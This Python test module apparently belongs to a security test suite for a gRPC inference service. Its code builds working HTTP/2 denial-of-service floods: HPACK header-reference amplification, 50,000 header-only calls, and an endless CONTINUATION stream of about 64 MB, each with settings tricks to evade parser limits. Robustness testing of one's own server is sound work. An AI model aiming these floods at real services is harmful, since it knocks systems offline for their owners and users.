"""Attacks on a gRPC port below its calls: many cheap frames of HTTP/2 on one connection."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.attacks import frames
from tests.attacks.calls import Call, Target

CHECK = "/grpc.health.v1.Health/Check"  # needs no key
CHAT = "/quire.inference.v1.InferenceService/Chat"
VALUE = b"a" * 3_500  # the dynamic table takes 4,096 bytes with the rest
REFERENCES = 15_000  # a frame takes 16,384 bytes
QUIET_S = 3.0  # without an answer: nothing more comes
LONGEST_S = 60.0


@dataclass(frozen=True, slots=True)
class Flood:
    """A connection that sends `data` after its preface."""

    data: bytes
    num_streams: int
    acknowledges: bool = True  # the server's settings: those that nothing acknowledges do not bind its parser
    quiet_s: float = QUIET_S

    @property
    def num_bytes(self) -> int:
        return len(self.data)

    async def send(self, target: Target) -> str:
        """Returns how many of its streams the server has ended, or that it closed the connection."""
        host, _, port = target.grpc.rpartition(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
        sending = asyncio.create_task(self._write(writer))
        ended: set[int] = set()
        try:
            async with asyncio.timeout(LONGEST_S):
                closed = await self._read(reader, ended, sending)
        finally:
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)
            writer.close()
        return "closed" if closed else f"{len(ended)} of {self.num_streams} ended"

    async def _write(self, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError):
            if self.acknowledges:
                writer.write(frames.frame(frames.SETTINGS, frames.ACK, 0))
            for start in range(0, len(self.data), 1 << 16):
                writer.write(self.data[start : start + (1 << 16)])
                await writer.drain()

    async def _read(self, reader: asyncio.StreamReader, ended: set[int], sending: asyncio.Task[None]) -> bool:
        """Returns whether the server closed the connection."""
        data = bytearray()
        while len(ended) < self.num_streams:
            try:
                piece = await asyncio.wait_for(reader.read(1 << 16), self.quiet_s)
            except TimeoutError:
                if sending.done():
                    return False
                continue
            except ConnectionError:
                return True
            if not piece:
                return True
            data += piece
            for kind, flags, stream in frames.read(data):
                if kind == frames.GOAWAY:
                    return True
                if kind == frames.RST_STREAM or (kind == frames.HEADERS and flags & frames.END_STREAM):
                    ended.add(stream)
        return False


def references(path: str = CHAT, connections: int = 1, calls: int = 1_066) -> list[Call]:
    """A long header that is sent once, and named thousands of times by each further call."""
    first = frames.call_headers(path) + frames.added(b"x", VALUE)
    block = frames.same_headers(1) + frames.named(frames.FIRST_OF_OWN) * REFERENCES
    sent = b"".join(frames.frame(frames.HEADERS, frames.END_HEADERS, 3 + 2 * n, block) for n in range(calls))
    data = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, first) + sent
    return [Flood(data, calls + 1, acknowledges=False)] * connections


def without_messages(path: str = CHAT, calls: int = 50_000) -> list[Call]:
    """Calls whose client closes its side at once."""
    flags = frames.END_HEADERS | frames.END_STREAM
    blocks = [frames.call_headers(path)] + [frames.same_headers()] * (calls - 1)
    sent = b"".join(frames.frame(frames.HEADERS, flags, 1 + 2 * n, block) for n, block in enumerate(blocks))
    return [Flood(sent, calls)]


def without_end(num_bytes: int = 64_000_000, path: str = CHAT) -> list[Call]:
    """A call whose headers go on in CONTINUATION frames and never end."""
    head = frames.frame(frames.HEADERS, 0, 1, frames.call_headers(path))
    more = frames.frame(frames.CONTINUATION, 0, 1, b"\x00\x01x\x7f\xfe\x7b" + b"a" * 15_997)  # a header of 15,997 bytes
    return [Flood(head + more * (num_bytes // len(more)), 1)]


FLOODS: dict[str, Callable[[], list[Call]]] = {
    "HTTP/2: HPACK references": references,
    "HTTP/2: HPACK references, 3 connections": lambda: references(connections=3),
    "HTTP/2: HPACK references of health checks": lambda: references(path=CHECK),
    "HTTP/2: 50,000 HEADERS with END_STREAM and no message": without_messages,
    "HTTP/2: 50,000 health checks with END_STREAM and no message": lambda: without_messages(CHECK),
    "HTTP/2: CONTINUATION without end": without_end,
}
